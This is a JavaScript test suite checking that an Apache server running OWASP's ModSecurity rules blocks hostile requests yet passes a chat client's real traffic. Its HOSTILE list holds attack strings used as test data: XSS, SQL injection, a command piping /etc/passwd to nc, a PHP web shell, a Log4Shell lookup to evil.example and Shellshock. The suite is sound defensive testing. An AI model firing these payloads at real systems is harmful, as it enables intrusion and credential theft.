// OWASP's rule set, blocking, in front of Apache: every call of the client passes, and it does block.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe } from 'node:test';
import { randomId } from '../../public_html/klatch/bytes.js';
import { wrap } from '../../public_html/klatch/seal.js';
import { launch } from '../browser/lib/participant.mjs';
import { expectStatus, newId, newRoom } from '../integration/lib/api.mjs';
import { it } from '../integration/lib/it.mjs';
import { Member, dataOf, roomOf } from '../integration/lib/member.mjs';
import { Apache } from './lib/apache.mjs';
import { SUITE_CONFIG, raw } from './lib/api-suite.mjs';
import { meet } from './lib/call-suite.mjs';
import { isRoot, render } from './lib/web-server.mjs';

const HOSTILE = ['<script>alert(document.cookie)</script>', "' OR 1=1; DROP TABLE member; -- ", '; cat /etc/passwd | nc 10.0.0.1 80',
  '../../../../etc/shadow', '<?php system($_GET["c"]); ?>', '$' + '{jndi:ldap://evil.example/a}', 'javascript:alert(1)',
  'UNION ALL SELECT NULL,NULL,version()--', '() { :; }; /bin/bash -c id', '<img src=x onerror=alert(1)>'];
const SDP = `v=0\r\no=- 46117 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n${'a=candidate:1 1 udp 2113937151 192.168.1.4 54400 typ host\r\n'.repeat(60)}`;
const JSON_TYPE = { 'content-type': 'application/json' };
const FORM = { 'content-type': 'application/x-www-form-urlencoded' };

describe("Apache with OWASP's rule set blocking", () => {
  let server;
  let api;
  before(async () => {
    server = new Apache({ recipe: 'apache-fcgid', modules: ['security2', 'unique_id'], config: SUITE_CONFIG });
    const state = path.join(server.dir, 'modsecurity');
    fs.mkdirSync(state);
    if (isRoot) fs.chmodSync(state, 0o777);
    server.options.main = render('modsecurity/klatch.conf.in', { STATE: state });
    await server.start();
    api = server.api();
  });
  after(() => server?.stop());

  const blocked = async (method, where, options) => {
    const { status } = await raw(server, method, where, options);
    assert.ok([400, 403].includes(status), `${method} ${where}: ${status}`);
  };

  it('blocks what it is there to block', async () => {
    await blocked('GET', `/v1/health?x=${encodeURIComponent(HOSTILE[0])}`);
    await blocked('DELETE', '/v1/health');
    const body = Buffer.from(JSON.stringify({ name: HOSTILE[1], meta: HOSTILE[2] }));
    await blocked('POST', `/v1/rooms/${newRoom()}/join`, { headers: JSON_TYPE, body });
  });

  it('lets every call of the client pass, whatever people say', async () => {
    expectStatus(await api.get('/v1/health'), 200);
    const room = newRoom();
    const join = { id: newId(), meta: wrap({ v: 1, name: HOSTILE[0], instance: newId() }) };
    const ada = await Member.join(api, room, join);
    const bob = await Member.join(api, room, { ...join, id: newId() });
    const said = [...HOSTILE.map((text) => ({ text })), { sdp: SDP }, HOSTILE.join('\n').repeat(20)].map(wrap);
    for (const data of said) {
      await ada.exchange({ send: [{ ...ada.message(data, { to: bob.peer }), type: 'offer' }] });
    }
    assert.deepEqual(dataOf(await bob.via(server.pollApi()).notes(said.length)), said);
    const short = expectStatus(await bob.raw({ after: bob.cursor, wait_ms: 1, turn: 1000 }), 200);
    assert.deepEqual(short.json.messages, []);
    const back = await bob.resume({ meta: join.meta });
    assert.equal(back.peer, bob.peer);
    const again = await Member.join(api, room, { ...join, id: newId(), replaces: back.key });
    const leave = `json=${encodeURIComponent(JSON.stringify({ key: again.key, soon: true }))}`;
    expectStatus(await api.room(room, 'leave', leave, { headers: { ...FORM, Origin: server.origin } }), 204);
    await ada.leave();
  });

  it("lets a page elsewhere in, which sends forms", async () => {
    const headers = { ...FORM, Origin: 'https://site.example' };
    const form = (value) => `json=${encodeURIComponent(JSON.stringify(value))}`;
    const room = newRoom();
    const joined = expectStatus(await api.room(room, 'join', form({ id: newId(), meta: wrap({ name: HOSTILE[9] }) }), { headers }), 201).json;
    const send = HOSTILE.map((text, i) => ({ id: `h${i}`, type: 'note', data: wrap({ text, sdp: SDP }) }));
    const body = form({ key: joined.key, after: joined.cursor, wait_ms: 0, turn: 1, send });
    expectStatus(await api.room(room, 'exchange', body, { headers }), 200);
  });

  // What begins like 7-- is taken for SQL, 1 of 10,000 random texts; so ids, keys and sealed bytes
  // begin with a letter.
  const sealedBytes = (bytes) => ({ s: `A${randomBytes(bytes).toString('base64url')}` });

  it('blocks random text only where it begins with a digit and a dash', async () => {
    const [ada] = await roomOf(api, newRoom(), 1);
    for (const [text, status] of [['7--lnFl5ptJ7eYHP6r17Ae2Mm', 403], ['A7--lnFl5ptJ7eYHP6r17Ae2M', 200]]) {
      const body = Buffer.from(JSON.stringify({ key: ada.key, send: [ada.message({ s: text })] }));
      const answer = await raw(server, 'POST', `/v1/rooms/${ada.room}/exchange`, { headers: JSON_TYPE, body });
      assert.equal(answer.status, status, text);
    }
    for (let i = 0; i < 30; i += 1) assert.match(randomId(), /^[A-Za-z]/);
    assert.match(ada.key, /^[A-Za-z]/);
  });

  it('lets any sealed bytes pass, up to the size that the client sends', async () => {
    const [ada, bob] = await roomOf(api, newRoom(), 2);
    for (let i = 0; i < 60; i += 1) {
      const sealed = Array.from({ length: 6 }, () => sealedBytes(20 + i * 30));
      await ada.exchange({ send: sealed.map((data) => ada.message(data, { to: bob.peer })) });
    }
    assert.equal((await bob.notes(360)).length, 360);
    const large = Array.from({ length: 2 }, () => ada.message(sealedBytes(34000), { to: bob.peer }));
    await ada.exchange({ send: large });
    assert.deepEqual(dataOf(await bob.notes(2)), large.map(({ data }) => data));
  });

  it('lets the doctor ask', async () => {
    for (const [method, body] of [['GET'], ['POST', Buffer.from('{"a":"b"}')]]) {
      const answer = await raw(server, method, '/v1/doctor/echo', { headers: body ? JSON_TYPE : {}, body });
      assert.equal(answer.status, 200, answer.text);
    }
    assert.equal((await raw(server, 'POST', '/v1/doctor/report', { headers: JSON_TYPE, body: Buffer.from('{}') })).status, 200);
  });

  it('lets two people meet', async () => {
    const browser = await launch();
    try {
      await meet(browser, server.page);
    } finally {
      await browser.close();
    }
  });
});
